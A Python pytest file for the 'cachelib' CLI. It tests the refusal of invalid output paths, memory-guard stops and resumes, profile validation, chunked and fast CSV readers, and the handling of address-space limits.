def _retrieval_out(out: str) -> tuple[str, ...]:
    return ("retrieval", "--model", MODEL, "--context", "128", "--trials", "1", "--out", out)


BAD_OUTS = [
    (20, "a folder", "{w}/x.csv", "x.csv", "is a folder"),
    (20, "in /proc", "/proc/e.csv", "/proc/e.csv", "cannot write an evaluation here"),
    (20, "under a file", "{w}/afile/e.csv", "afile/e.csv", "a file stands where its folder would go"),
    (20, "an existing profile", "{w}/profiles/existing.csv", "existing.csv", "holds a profile"),
    (20, "an existing file of another kind", "{w}/notes.csv", "notes.csv", "of another kind"),
    (20, "a device", "/dev/null", "/dev/null", "use a .csv name"),
    (20, "not .csv", "{w}/e.parquet", "e.parquet", "use a .csv name"),
]
OUT_CASES = [
    Case(item, f"{command} --out {what}", make(out), names, says)
    for command, make in (("evaluate", _evaluate_out), ("retrieval", _retrieval_out))
    for item, what, out, names, says in BAD_OUTS
] + [
    Case(
        20,
        "report --out an evaluation named .html",
        ("report", "{w}/profiles/existing.csv", "--out", "{w}/page.html"),
        "page.html",
        "holds a CSV of another kind",
    ),
    Case(20, "report --out in /proc", ("report", "{w}/profiles/existing.csv", "--out", "/proc/r.html"), "/proc/r.html"),
    Case(20, "report --out a folder", ("report", "{w}/profiles/existing.csv", "--out", "{w}"), "", ".html"),
    Case(
        20, "plan --csv over a profile", _plan("--csv", "{w}/profiles/existing.csv"), "existing.csv", "holds a profile"
    ),
    Case(20, "plan --csv in /proc", _plan("--csv", "/proc/plan.csv"), "/proc/plan.csv", "cannot write a plan CSV"),
    Case(20, "plan --csv under a file", _plan("--csv", "{w}/afile/plan.csv"), "afile/plan.csv", "a file stands"),
    Case(
        20, "sweep --out under a file", ("sweep", "{w}/grid.toml", "--out", "{w}/afile/s"), "afile/s", "a file stands"
    ),
]
if not os.path.exists("/proc/self"):
    OUT_CASES = [c for c in OUT_CASES if "/proc" not in c.what]


@pytest.mark.parametrize("case", OUT_CASES, ids=lambda c: c.what)
def test_20_a_bad_out_is_refused_before_any_work_naming_the_path(case, world, capsys, monkeypatch):
    _no_load_in(monkeypatch, "cachelib.profile.evaluate", "cachelib.profile.retrieval")
    _outs(world)
    (world / "grid.toml").write_text(GRID_HEAD + 'prompts = ["hi"]\nmax_tokens = 2\n')
    before = snapshot(world)
    code, err, _ = run_cli(case.args(world), capsys)
    assert code == 2 and len(err) == 1, err
    assert case.names in err[0] and case.says in err[0], err[0]
    assert snapshot(world) == before  # nothing changed, nothing left behind (hidden files included)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
@pytest.mark.parametrize("make", [_evaluate_out, _retrieval_out])
def test_20_a_read_only_out_folder_is_refused_before_the_model_loads(make, world, capsys, monkeypatch):
    _no_load_in(monkeypatch, "cachelib.profile.evaluate", "cachelib.profile.retrieval")
    folder = world / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code, err, _ = run_cli(list(make(f"{folder}/e.csv")), capsys)
    finally:
        folder.chmod(0o755)
    assert code == 2 and len(err) == 1 and "read-only/e.csv" in err[0] and "Permission denied" in err[0], err


def test_20_the_memory_guard_stops_an_evaluation_between_windows_and_the_same_call_resumes(tmp_path, monkeypatch):
    from cachelib.profile import evaluate, load_evaluation

    text = ROOT / "assets" / "corpus" / "genesis-kjv.txt"
    out = tmp_path / "e.csv"
    args = dict(texts=[text], context=32, score_tokens=2, windows=4, out=out, one_by_one=True)
    seen = []

    def squeezed(step):  # another process takes the machine's memory after the second measurement
        seen.append(step)
        if step.done == 2:
            monkeypatch.setattr("cachelib.profile.guard.available_memory", lambda device: 1)

    stopped = evaluate(MODEL, ["standard", "rotating:max_size=8,keep=2"], on_progress=squeezed, **args)
    assert not stopped.complete and stopped.reason.startswith("memory guard: "), stopped.reason
    assert "predicted to need" in stopped.reason and "after 2 of 8 measurements" in stopped.reason
    assert stopped.path == tmp_path / "e.incomplete.csv" and len(load_evaluation(stopped.path).samples) == 2
    monkeypatch.undo()
    done = evaluate(MODEL, ["standard", "rotating:max_size=8,keep=2"], **args)
    assert done.complete and done.path == out and sorted(p.name for p in tmp_path.iterdir()) == ["e.csv"]
    assert len(done.samples) == 8 and not done.samples.duplicated(["strategy", "window_start"]).any()


def test_20_profiles_calls_complete_only_what_load_profile_opens_and_skips_a_sweep_index(
    tiny_profile, tmp_path, capsys
):
    good = tmp_path / "good.csv"
    good.write_bytes(tiny_profile.read_bytes())
    text = tiny_profile.read_text(encoding="utf-8")
    (tmp_path / "bad-table.csv").write_text(text.replace("\nsteps,", "\nbogus,", 1), encoding="utf-8")
    lines = text.splitlines(keepends=True)
    step = lines[0].split(",").index("step")
    first = next(i for i, line in enumerate(lines) if line.startswith("steps,"))
    cells = lines[first].split(",")
    cells[step] = "-5"
    (tmp_path / "bad-step.csv").write_text("".join(lines[:first] + [",".join(cells)] + lines[first + 1 :]))
    (tmp_path / "index.csv").write_text("point,status,file\np1,done,good.csv\n")
    assert read_meta(tmp_path / "bad-step.csv")["status"] == "complete"  # the metadata alone says complete
    code, err, printed = run_cli(["profiles", str(tmp_path)], capsys)
    assert code == 0, err
    listed = {line.split()[0]: line for line in printed.splitlines()}
    assert set(listed) == {"bad-step.csv", "bad-table.csv", "good.csv"}  # the index is no profile
    assert " complete " in listed["good.csv"]
    assert "not a profile" in listed["bad-step.csv"] and "step must be >= 0" in listed["bad-step.csv"]
    assert "not a profile" in listed["bad-table.csv"] and "unknown table(s) bogus" in listed["bad-table.csv"]


def test_20_a_large_profile_read_in_chunks_gives_the_same_tables_and_the_same_errors(
    masked_profile, tmp_path, monkeypatch
):
    from cachelib.profile import store

    whole = load_profile(masked_profile)
    bad = _edit(masked_profile, tmp_path / "bad.csv", "layers", "bytes_used", "-inf", nth=9)
    with pytest.raises(ValueError) as at_once:
        load_profile(bad)
    monkeypatch.setattr(store, "LARGE_BYTES", 0)  # every file is "large": read in chunks of 7 rows
    monkeypatch.setattr(store, "CHUNK_ROWS", 7)
    chunked = load_profile(masked_profile)
    assert chunked == whole and chunked.meta == whole.meta
    for table in store.TABLE_NAMES:
        pd.testing.assert_frame_equal(chunked.frame(table), whole.frame(table), check_dtype=True)
    with pytest.raises(ValueError) as in_chunks:
        load_profile(bad)
    assert str(in_chunks.value) == str(at_once.value) and "bad.csv, line" in str(in_chunks.value)


def test_20_the_fast_reader_gives_the_exact_readers_tables_and_leaves_it_every_error(
    masked_profile, tmp_path, monkeypatch
):
    """A CSV cachelib wrote loads through one typed pyarrow parse (``fast_load``); the exact
    reader (whole or in chunks) reads the same tables, and words every error."""
    from cachelib.profile import store
    from cachelib.profile.fast_load import load_fast

    fast = load_fast(masked_profile, str(masked_profile))
    assert fast is not None and len(fast.frame("masks")) and len(fast.frame("slots"))
    bad = _edit(masked_profile, tmp_path / "bad.csv", "masks", "mask", "0120", nth=3)
    assert load_fast(bad, str(bad)) is None
    with pytest.raises(ValueError) as fast_error:
        load_profile(bad)
    monkeypatch.setattr(store, "load_fast", lambda source, label: None)
    monkeypatch.setattr(store, "LARGE_BYTES", 0)  # the exact reader in chunks of 7 rows
    monkeypatch.setattr(store, "CHUNK_ROWS", 7)
    exact = load_profile(masked_profile)
    assert exact.meta == fast.meta
    for table in store.TABLE_NAMES:
        pd.testing.assert_frame_equal(fast.frame(table), exact.frame(table), check_dtype=True, check_exact=True)
    with pytest.raises(ValueError) as exact_error:
        load_profile(bad)
    assert str(fast_error.value) == str(exact_error.value) and "bad.csv, line" in str(fast_error.value)


ULIMIT_RUNS = [
    ("profile", ["--prompt", "hello", "--max-tokens", "2"]),
    ("profile", ["--prompt", "hello", "--max-tokens", "2", "--memory-limit", "1GiB"]),  # a limit is no way past
    ("evaluate", ["--context", "64", "--score-tokens", "2", "--windows", "1"]),
    ("retrieval", ["--context", "64", "--trials", "1", "--depth", "0.5"]),
]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux")
@pytest.mark.parametrize(
    "command, extra", ULIMIT_RUNS, ids=[c + ("-memory-limit" if "--memory-limit" in x else "") for c, x in ULIMIT_RUNS]
)
def test_19_under_ulimit_v_the_model_and_its_runtime_count_before_it_loads(command, extra, tmp_path):
    """Under ``ulimit -v`` a run whose caches fit but whose model and runtime do not (MLX maps
    ~2 GB of address space beside the weights) was a segmentation fault, an abort or a hang while
    loading; now it is refused before the model loads."""
    out = tmp_path / "out.csv"
    run = subprocess.run(
        [sys.executable, "-m", "cachelib", command, "--model", MODEL, *extra, "--strategy", "standard"]
        + ["--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        preexec_fn=_limited(2),
    )
    err = [line for line in run.stderr.splitlines() if line.strip()]
    assert run.returncode == 2 and len(err) == 1, run.stderr[-2000:]
    assert "for the model as it loads" in err[0] and "RLIMIT_AS (ulimit -v)" in err[0], err[0]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux")
def test_19_a_run_that_fits_under_ulimit_v_still_runs(tmp_path):
    out = tmp_path / "e.csv"
    argv = ["evaluate", "--model", MODEL, "--context", "64", "--score-tokens", "2", "--windows", "1"]
    run = subprocess.run(
        [sys.executable, "-m", "cachelib", *argv, "--strategy", "standard", "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
        preexec_fn=_limited(4),
    )
    assert run.returncode == 0, run.stderr[-2000:]
    assert out.is_file()


def test_19_a_sweep_point_that_cannot_fit_is_refused_before_the_cluster_starts(tmp_path, capsys):
    grid = tmp_path / "big.toml"
    grid.write_text(
        textwrap.dedent(
            f"""\
            name = "big"
            models = ["{MODEL}"]
            backends = ["mlx"]
            devices = ["cpu"]
            baseline = "standard"
            strategies = ["static:max_len=20000000"]
            prompts = ["hello there"]
            max_tokens = 4
            """
        )
    )
    code, err, _ = run_cli(["sweep", str(grid), "--out", str(tmp_path / "sweep"), "--workers", "1"], capsys)
    assert code == 2 and len(err) == 1, err
    assert err[0].startswith("error: sweep point tiny-llama-mlx-cpu-") and "static:max_len=20000000" in err[0], err[0]
    assert "would need 40.96 GB" in err[0], err[0]  # refused by the plan: no cluster was started
